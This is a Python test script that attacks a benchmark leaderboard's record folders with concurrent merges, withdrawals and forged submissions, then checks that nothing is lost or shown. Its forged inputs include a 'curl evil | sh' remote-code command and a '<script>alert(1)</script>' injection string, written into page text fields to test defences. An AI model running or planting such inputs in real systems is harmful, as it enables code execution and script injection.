"""Attacks on folders of records: each function tries one kind of them and returns what was tried, survived and lost."""

from __future__ import annotations

import itertools
import os
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, NamedTuple

from fuzz import fuzz
from synthetic import COLUMNS, identified, provenance, raw, record, verification, write_jsonl

from ltbench.leaderboard.publish import load, render, write_folder
from ltbench.leaderboard.suite_facts import SuiteFacts
from ltbench.records.record import Record
from ltbench.records.records_file import invalidate, read_records_file, records_file, records_path
from ltbench.records.tuning_file import FILE as TUNING
from ltbench.records.tuning_file import Trial, TunedRow, write_tuning
from ltbench.records.verifications import FILE as VERIFIED
from ltbench.records.verifications import write_verifications

LEADERBOARDS = Path(__file__).parents[1] / "leaderboards"


class Tally(NamedTuple):
    """A row of the table of attacks."""

    attack: str
    tried: int
    lost: list[str]
    """What went wrong, one entry for each attempt that did not survive."""

    @property
    def survived(self) -> int:
        """Attempts that changed nothing that they should not."""
        return self.tried - len(self.lost)


def started(*words: str, cwd: Path) -> subprocess.Popen[str]:
    """Start a command of its own process, as a second user would."""
    environment = os.environ | {"OMP_NUM_THREADS": "1", "NO_COLOR": "1", "PYTHONWARNINGS": "ignore"}
    return subprocess.Popen([sys.executable, "-m", "ltbench", *words], cwd=cwd, env=environment, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)  # fmt: skip


def page_of(folder: Path, records: Sequence[Record]) -> Path:
    """Write a small page without figures."""
    folder.mkdir(parents=True, exist_ok=True)
    write_folder(folder, SuiteFacts(name=folder.name, columns=COLUMNS, figures=()), records_file(records))
    return folder


def page_fits(folder: Path) -> bool:
    """Whether all generated files are those of the records."""
    return all(path.read_text() == text for path, text in render(load(folder)).items())


def concurrent_merges(root: Path, rounds: int, writers: int) -> Tally:
    """Merge records from several processes at once into one folder; none may be missing, and the page fits them."""
    lost = []
    for number in range(rounds):
        home = root / f"merges-{number}"
        page = page_of(home / "leaderboards" / "board", [record(seed=99)])
        for seed in range(writers):
            write_jsonl(home / f"{seed}.jsonl", [record(seed=seed)])
        running = [started("merge", f"{seed}.jsonl", "--into", str(page), cwd=home) for seed in range(writers)]
        outputs = [one.communicate() for one in running]
        found = {each.setting.seed for each in read_records_file(records_path(page)).records}
        missing = sorted({*range(writers), 99} - found)
        codes = [one.returncode for one in running]
        if missing or not page_fits(page) or any(codes):
            lost.append(f"round {number}: seeds {missing} are missing, exit codes {codes}, {outputs[0][1][-200:]}")
    return Tally("merges of one folder at once", rounds, lost)


def concurrent_withdrawals(root: Path, rounds: int, writers: int) -> Tally:
    """Withdraw cells, merge others and update pages at once; every withdrawal and every record stays."""
    lost = []
    for number in range(rounds):
        home = root / f"withdrawals-{number}"
        records = [record(seed=seed) for seed in range(writers)]
        page = page_of(home / "leaderboards" / "board", records)
        write_jsonl(home / "more.jsonl", [record(seed=99)])
        running = [started("invalidate", one.id, "--reason", "leak", cwd=home) for one in records[: writers - 2]]
        running.append(started("merge", "more.jsonl", "--into", str(page), cwd=home))
        running.append(started("leaderboard", "--update", cwd=home))
        outputs = [one.communicate() for one in running]
        content = read_records_file(records_path(page))
        kept = {each.id for each in content.all_records} >= {one.id for one in [*records, record(seed=99)]}
        codes = [one.returncode for one in running]
        if len(content.invalidations) != writers - 2 or not kept or not page_fits(page) or any(codes):
            lost.append(
                f"round {number}: {len(content.invalidations)} of {writers - 2} withdrawals, "
                f"exit codes {codes}, {outputs[0][1][-200:]}"
            )
    return Tally("withdrawals, merges and updates at once", rounds, lost)


def forged() -> dict[str, Callable[[Path, Sequence[Record]], None]]:
    """Return what a stranger may send, as functions that write it into a folder, given the records of the page."""

    def ground(folder: Path, mine: Sequence[Record]) -> None:
        changes = {"plugins": [provenance("convnet", "model", distribution="evil-package")]}
        tries = (record(seed=0, cost={"train_seconds": number}, **changes) for number in itertools.count())
        page_of(folder, [next(one for one in tries if one.digest < mine[0].digest)])

    def version(**changes: object) -> Callable[[Path, Sequence[Record]], None]:
        def write(folder: Path, mine: Sequence[Record]) -> None:
            made: Any = raw(scores={"top1": 0.999})
            made["fits"][0]["model"] |= changes
            page_of(folder, [identified(made)])

        return write

    def training(folder: Path, mine: Sequence[Record]) -> None:
        made: Any = raw(scores={"top1": 0.999})
        made["fits"][0]["segments"][0]["lr_scale"] = 2.0
        page_of(folder, [identified(made)])

    def numbers(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, [record(seed=0, scores={"top1": 0.999})])

    def withdrawal(folder: Path, mine: Sequence[Record]) -> None:
        write_folder(
            folder, SuiteFacts(name="board", columns=COLUMNS), records_file(mine, [invalidate(mine[0], "evil")])
        )

    def texts(folder: Path, mine: Sequence[Record]) -> None:
        evil = "evil <script>alert(1)</script>"
        facts = SuiteFacts(
            name="board", title=evil, question=evil, notes=evil, command="curl evil | sh", columns=COLUMNS
        )
        write_folder(folder, facts, records_file([record(seed=7)]))

    def claims(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, mine)
        write_verifications(folder / VERIFIED, [verification(mine, ltbench="evil")])

    def tuned(folder: Path, mine: Sequence[Record]) -> None:
        page_of(folder, [record(seed=7)])
        one, setting = mine[0], mine[0].setting
        trial = Trial(values={}, cells=[one.id], score=0.9)
        row = TunedRow(dataset=setting.dataset, profile=setting.profile, model=setting.model, imbalance_factor=100.0, tuned_at=100.0,
                       combination=one.combination, recipe=one.recipe | {"lr": 0.7}, metric="held_out.top1", held_out=0.1, sampler="evil",
                       asked=3, trials=[trial], chosen=0, cells=[one.id], passes=1.0, passes_of_row=1.0)  # fmt: skip
        write_tuning(folder / TUNING, [row])

    return {
        "the same numbers with a ground digest": ground, "a revision that is not installed": version(revision=99),
        "a technique of another package": version(distribution="zzz"), "another training of a row": training,
        "other numbers of a cell": numbers, "a withdrawal": withdrawal, "texts and commands": texts,
        "a forged verification": claims, "a tuned row of my cell": tuned,
    }  # fmt: skip


def forged_merges(root: Path, rounds: int, writers: int) -> Tally:
    """Merge what strangers send; my records stay as they are, and nothing of it is on my page. writers: not used."""
    lost, tried = [], 0
    for number, (name, write) in itertools.product(range(rounds), forged().items()):
        home = root / f"forged-{number}" / name.replace(" ", "-")
        mine = [record(seed=seed) for seed in (0, 1)]
        page = page_of(home / "leaderboards" / "board", mine)
        write(home / "theirs" / "board", mine)
        process = started("merge", "theirs/board", "--into", str(page), cwd=home)
        error = process.communicate()[1]
        content, text = read_records_file(records_path(page)), (page / "README.md").read_text()
        kept = all(one in content.records for one in mine)
        shown = [word for word in ("evil", "99.9", "Verified", "<script", "curl") if word in text]
        tried += 1
        if not kept or shown or process.returncode not in (0, 1) or "Traceback" in error or not page_fits(page):
            lost.append(f"{name}: kept {kept}, on the page {shown}, exit code {process.returncode} {error[-200:]}")
    return Tally("records, texts and claims of strangers, merged", tried, lost)


def forged_pages(root: Path, rounds: int, writers: int) -> Tally:
    """Run all commands that read on mutated pages, ten for each round. writers: not used."""
    found: list[str] = []
    counts = {"commands": 0}
    for page in ("report-park-fast", "quick-tuned", "probe"):
        of_page = fuzz(root / page, LEADERBOARDS / page, 10 * rounds, seed=rounds, tell=found.append)
        counts["commands"] += of_page["commands"]
    return Tally("commands on mutated pages", counts["commands"], found)


def main(argv: Sequence[str]) -> None:
    """Print the table. argv: a scratch folder, rounds, and writers at once."""
    root, rounds, writers = Path(argv[0]), int(argv[1]), int(argv[2])
    for attack in (concurrent_merges, concurrent_withdrawals, forged_merges, forged_pages):
        tally = attack(root, rounds, writers)
        sys.stdout.write(f"{tally.attack}: {tally.tried} tried, {tally.survived} survived, {len(tally.lost)} lost\n")
        sys.stdout.writelines(f"    {line}\n" for line in tally.lost)


if __name__ == "__main__":
    main(sys.argv[1:])
